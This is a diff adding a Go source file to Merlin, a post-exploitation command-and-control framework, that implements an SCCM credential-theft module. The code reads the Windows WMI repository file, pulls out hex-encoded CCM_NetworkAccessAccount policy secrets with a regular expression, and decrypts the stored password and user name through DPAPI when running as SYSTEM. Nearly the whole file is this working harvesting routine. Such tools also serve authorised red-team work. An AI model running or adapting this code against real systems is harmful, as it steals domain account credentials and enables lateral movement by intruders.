@@ -0,0 +1,91 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"encoding/hex"
+	"fmt"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+)
+
+// policySecret matches the hex encoded, DPAPI protected, values of the CCM_NetworkAccessAccount policy in the WMI
+// repository; the password is stored before the user name
+var policySecret = regexp.MustCompile(`(?s)CCM_NetworkAccessAccount.{0,64}?<PolicySecret Version="1"><!\[CDATA\[([0-9A-Fa-f]+)\]\]></PolicySecret>.{0,64}?<PolicySecret Version="1"><!\[CDATA\[([0-9A-Fa-f]+)\]\]></PolicySecret>`)
+
+// networkAccessAccounts recovers the Network Access Account credentials from the CCM_NetworkAccessAccount policy in
+// the WMI repository, which includes accounts from previous policies that were not purged. The secrets are protected
+// with the machine's DPAPI key so they are returned encrypted when the agent is not running as SYSTEM
+func networkAccessAccounts() (findings []FindingRecord, err error) {
+	path := filepath.Join(os.Getenv("SystemRoot"), "System32", "wbem", "Repository", "OBJECTS.DATA")
+	data, err := os.ReadFile(path) // #nosec G304 -- the path is the WMI repository
+	if err != nil {
+		return nil, fmt.Errorf("there was an error reading the WMI repository %s: %s", path, err)
+	}
+	matches := policySecret.FindAllSubmatch(data, -1)
+	if len(matches) == 0 {
+		return nil, fmt.Errorf("there is no Network Access Account policy in the WMI repository")
+	}
+	seen := make(map[string]bool)
+	for i, match := range matches {
+		if seen[string(match[0])] {
+			continue
+		}
+		seen[string(match[0])] = true
+		category := fmt.Sprintf("Network Access Account %d", i+1)
+		for j, name := range []string{"Password", "User"} {
+			value, err := unprotectPolicySecret(string(match[j+1]))
+			if err != nil {
+				value = fmt.Sprintf("%s (%s)", match[j+1], err)
+			}
+			findings = append(findings, FindingRecord{Category: category, Name: name, Value: value})
+		}
+	}
+	return findings, nil
+}
+
+// unprotectPolicySecret decrypts a hex encoded policy secret, a 32-bit length followed by a DPAPI blob of a UTF-16
+// string
+func unprotectPolicySecret(secret string) (string, error) {
+	blob, err := hex.DecodeString(secret)
+	if err != nil {
+		return "", err
+	}
+	if len(blob) < 5 {
+		return "", fmt.Errorf("the policy secret is only %d bytes", len(blob))
+	}
+	blob = blob[4:]
+	in := windows.DataBlob{Size: uint32(len(blob)), Data: &blob[0]}
+	var out windows.DataBlob
+	if err = windows.CryptUnprotectData(&in, nil, nil, 0, nil, windows.CRYPTPROTECT_UI_FORBIDDEN, &out); err != nil {
+		return "", fmt.Errorf("there was an error decrypting the policy secret, the agent must run as SYSTEM: %s", err)
+	}
+	defer windows.LocalFree(windows.Handle(unsafe.Pointer(out.Data))) // #nosec G103 -- the buffer is allocated by CryptUnprotectData
+	plain := unsafe.Slice(out.Data, out.Size)                         // #nosec G103 -- the buffer is allocated by CryptUnprotectData
+	return strings.TrimRight(ntlmString(plain, true), "\x00"), nil
+}